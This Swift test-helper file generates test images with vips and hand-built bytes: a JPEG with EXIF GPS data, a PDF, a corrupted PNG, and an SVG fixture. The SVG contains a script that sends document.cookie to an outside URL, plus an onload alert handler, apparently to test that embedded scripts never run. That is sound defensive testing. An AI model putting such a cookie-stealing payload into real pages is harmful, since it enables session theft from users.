import Foundation
import Testing

/// Pictures made for the tests: photos by libvips's own command-line tool `vips` (Debian:
/// libvips-tools), everything else written by hand here.
enum TestPictures {
    static let vips = executable(named: "vips")
    static let exiftool = executable(named: "exiftool")

    /// CI installs the tools (.ci/run), so there a missing one fails the test instead of skipping it.
    static var areRequired: Bool { ProcessInfo.processInfo.environment["CI"] != nil }

    static let vipsMissing: Comment =
        "needs vips on the PATH to make test photos: apt-get install libvips-tools"
    static let exiftoolMissing: Comment =
        "needs exiftool on the PATH to read back a copy's metadata: apt-get install libimage-exiftool-perl"

    private static func executable(named name: String) -> String? {
        let folders = (ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin").split(separator: ":")
        return folders.map { "\($0)/\(name)" }.first { FileManager.default.isExecutableFile(atPath: $0) }
    }

    /// A `width` × `height` picture at `path`, its format from the name's extension (.jpg,
    /// .png, .gif, .webp, .heic): a gradient from left to right, half transparent when
    /// `transparent`.
    static func photo(at path: String, width: Int, height: Int, transparent: Bool = false) throws {
        let vips = try #require(vips, "CI installs libvips-tools (.ci/run), but vips is not on the PATH")
        let work = path + ".work"
        defer { for step in ["x", "grey", "rgb", "rgba"] { try? FileManager.default.removeItem(atPath: "\(work)-\(step).v") } }
        try run(vips, "xyz", "\(work)-x.v", "\(width)", "\(height)")
        try run(vips, "extract_band", "\(work)-x.v", "\(work)-grey.v", "0")
        try run(vips, "linear", "\(work)-grey.v", "\(work)-rgb.v", "\(200.0 / Double(width)) \(100.0 / Double(width)) \(50.0 / Double(width))", "30 90 150", "--uchar")
        if transparent {
            try run(vips, "bandjoin_const", "\(work)-rgb.v", "\(work)-rgba.v", "128")
            try run(vips, "copy", "\(work)-rgba.v", path)
        } else {
            try run(vips, "copy", "\(work)-rgb.v", path)
        }
    }

    private static func run(_ arguments: String...) throws {
        let (_, errors) = try PrintTools.run(arguments[0], Array(arguments.dropFirst()))
        if !errors.isEmpty { Issue.record("\(arguments[1]) said: \(errors)") }
    }

    /// What exiftool reads off `path`, as "Group:Tag" names (exiftool -json -G1), leaving out
    /// what it says of the file itself (name, size, dates) and what it works out from the rest.
    static func metadataTags(at path: String) throws -> [String] {
        let exiftool = try #require(exiftool, "CI installs libimage-exiftool-perl (.ci/run), but exiftool is not on the PATH")
        let output = try PrintTools.run(exiftool, ["-json", "-G1", "-a", path]).output
        let objects = try #require(try JSONSerialization.jsonObject(with: Data(output.utf8)) as? [[String: Any]])
        let own = ["SourceFile", "ExifTool:", "System:", "File:", "Composite:"]
        return objects.flatMap(\.keys).filter { key in !own.contains { key.hasPrefix($0) } }.sorted()
    }
}

/// Files written byte by byte.
extension TestPictures {
    /// `jpeg` with an EXIF block after its start marker: orientation `orientation` and a GPS
    /// position (52° 31′ 12″ N, 13° 24′ E), as a phone writes them.
    static func withEXIF(_ jpeg: Data, orientation: UInt16) -> Data {
        var tiff = Data("MM".utf8) + bigEndian(UInt16(42)) + bigEndian(UInt32(8))
        // IFD0: Orientation, and where the GPS IFD is (8 + 2 + 2 × 12 + 4 = 38).
        tiff += bigEndian(UInt16(2))
        tiff += entry(tag: 0x0112, type: 3, count: 1, value: bigEndian(orientation) + Data([0, 0]))
        tiff += entry(tag: 0x8825, type: 4, count: 1, value: bigEndian(UInt32(38)))
        tiff += bigEndian(UInt32(0))
        // The GPS IFD: latitude reference and latitude, whose three rationals follow it
        // (38 + 2 + 2 × 12 + 4 = 68).
        tiff += bigEndian(UInt16(2))
        tiff += entry(tag: 0x0001, type: 2, count: 2, value: Data("N\0\0\0".utf8))
        tiff += entry(tag: 0x0002, type: 5, count: 3, value: bigEndian(UInt32(68)))
        tiff += bigEndian(UInt32(0))
        for (numerator, denominator) in [(52, 1), (31, 1), (12, 1)] as [(UInt32, UInt32)] {
            tiff += bigEndian(numerator) + bigEndian(denominator)
        }
        let payload = Data("Exif\0\0".utf8) + tiff
        let segment = Data([0xFF, 0xE1]) + bigEndian(UInt16(payload.count + 2)) + payload
        return jpeg.prefix(2) + segment + jpeg.dropFirst(2)
    }

    private static func entry(tag: UInt16, type: UInt16, count: UInt32, value: Data) -> Data {
        bigEndian(tag) + bigEndian(type) + bigEndian(count) + value
    }

    private static func bigEndian<Integer: FixedWidthInteger>(_ value: Integer) -> Data {
        withUnsafeBytes(of: value.bigEndian) { Data($0) }
    }

    /// A PDF of `pages` A4 pages, each with a blue rectangle.
    static func pdf(pages: Int) -> Data {
        let content = "0 0 1 rg 100 100 300 500 re f"
        let pageNumbers = (0..<pages).map { $0 + 3 }
        var objects = [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [\(pageNumbers.map { "\($0) 0 R" }.joined(separator: " "))] /Count \(pages) >>",
        ]
        objects += pageNumbers.map { _ in
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents \(pages + 3) 0 R >>"
        }
        objects.append("<< /Length \(content.utf8.count) >>\nstream\n\(content)\nendstream")
        var file = "%PDF-1.4\n"
        var offsets: [Int] = []
        for (index, object) in objects.enumerated() {
            offsets.append(file.utf8.count)
            file += "\(index + 1) 0 obj\n\(object)\nendobj\n"
        }
        let table = file.utf8.count
        file += "xref\n0 \(objects.count + 1)\n0000000000 65535 f \n"
        file += offsets.map { String(repeating: "0", count: 10 - String($0).count) + "\($0) 00000 n \n" }.joined()
        file += "trailer\n<< /Size \(objects.count + 1) /Root 1 0 R >>\nstartxref\n\(table)\n%%EOF\n"
        return Data(file.utf8)
    }

    /// A drawing as an app saves it, with a script in it that must never run, on a background
    /// of `background` ("none" leaves it transparent).
    static func svgWithScript(background: String) -> Data {
        Data(
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <svg xmlns="http://www.w3.org/2000/svg" width="300" height="150" viewBox="0 0 300 150">
              <script>document.location = "https://example.com/?stolen=" + document.cookie</script>
              <rect width="300" height="150" fill="\(background)"/>
              <circle cx="150" cy="75" r="50" fill="orange" onload="alert(1)"/>
            </svg>

            """.utf8)
    }

    /// A PNG of `width` × `height` whose header is sound and whose pixel data is not zlib.
    static func pngWithGarbledPixels(width: UInt32, height: UInt32) -> Data {
        var header = Data()
        header += bigEndian(width) + bigEndian(height) + Data([8, 2, 0, 0, 0])
        return Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A])
            + chunk("IHDR", header) + chunk("IDAT", Data("these bytes are no deflate stream".utf8)) + chunk("IEND", Data())
    }

    private static func chunk(_ type: String, _ data: Data) -> Data {
        let typed = Data(type.utf8) + data
        return bigEndian(UInt32(data.count)) + typed + bigEndian(crc32(typed))
    }

    /// PNG's CRC-32 (ISO 3309), which libpng checks on every chunk, and zip on every member.
    static func crc32(_ data: Data) -> UInt32 {
        var crc: UInt32 = 0xFFFF_FFFF
        for byte in data {
            crc ^= UInt32(byte)
            for _ in 0..<8 { crc = crc & 1 == 1 ? 0xEDB8_8320 ^ (crc >> 1) : crc >> 1 }
        }
        return ~crc
    }
}
